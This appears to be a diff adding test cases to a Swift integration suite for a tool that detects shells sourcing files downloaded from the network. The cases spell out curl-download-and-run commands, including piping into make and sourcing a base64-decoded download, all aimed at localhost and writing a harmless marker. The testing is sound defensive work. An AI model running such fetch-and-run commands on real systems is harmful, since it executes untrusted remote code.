@@ -65,6 +65,15 @@ struct EnforceIntegrationTests {
             try h.write("www/m.mk", "all:\n\techo pwned >> MARKERS\n")
             return "curl -fsS http://127.0.0.1:\(port)/m.mk | make -s -f -\n"
         },
+        // Sourcing runs a download in the shell itself: no exec to judge, only the open.
+        Threat(name: "a download sourced by the tool's own shell", rule: "shell-sources-file-of-network-origin") { h, port in
+            try h.write("www/s.sh", "echo pwned >> MARKERS\n")
+            return "curl -fsS -o got-$$.sh http://127.0.0.1:\(port)/s.sh && . ./got-$$.sh\n"
+        },
+        Threat(name: "a decoded download sourced by bash", rule: "shell-sources-file-of-network-origin") { h, port in
+            try h.write("www/s.b64", Data("echo pwned >> MARKERS\n".utf8).base64EncodedString() + "\n")
+            return "curl -fsS http://127.0.0.1:\(port)/s.b64 | base64 -d > d-$$.sh && bash -c 'source ./d-'$$'.sh'\n"
+        },
         // Interpreters by content (issue #10 item 4): neither name, size nor bytes match the
         // host's file; the build-id, the runtime main calls, or the machine code do.
         Threat(name: "a copy of dash padded by a byte, under another name", rule: "disguised-interpreter") { _, _ in
